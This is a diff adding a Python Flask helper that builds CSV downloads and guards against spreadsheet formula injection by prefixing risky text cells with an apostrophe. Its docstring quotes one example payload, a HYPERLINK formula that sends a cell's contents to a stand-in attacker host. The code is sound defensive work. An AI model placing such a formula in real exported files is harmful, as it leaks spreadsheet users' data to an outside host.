@@ -1,0 +1,35 @@
+"""CSV files people open in Excel or WPS.
+
+A cell that starts with = + - @, a tab or a carriage return is read as a
+formula there (`=HYPERLINK("http://evil.example/?"&A1,"open")` runs when
+the file is opened): such text cells get a leading apostrophe, OWASP's
+rule for CSV injection. Numbers stay numbers.
+"""
+
+import csv
+import io
+
+from flask import Response
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def safe_cell(value):
+    if value is None:
+        return ""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+def csv_response(filename, header, rows):
+    """A UTF-8 CSV download with a BOM (so that Excel reads the Chinese) whose
+    every text cell is neutralised."""
+    out = io.StringIO()
+    writer = csv.writer(out)
+    writer.writerow([safe_cell(v) for v in header])
+    for row in rows:
+        writer.writerow([safe_cell(v) for v in row])
+    response = Response(("\ufeff" + out.getvalue()).encode("utf-8"), mimetype="text/csv; charset=utf-8")
+    response.headers.set("Content-Disposition", "attachment", filename=filename)
+    return response
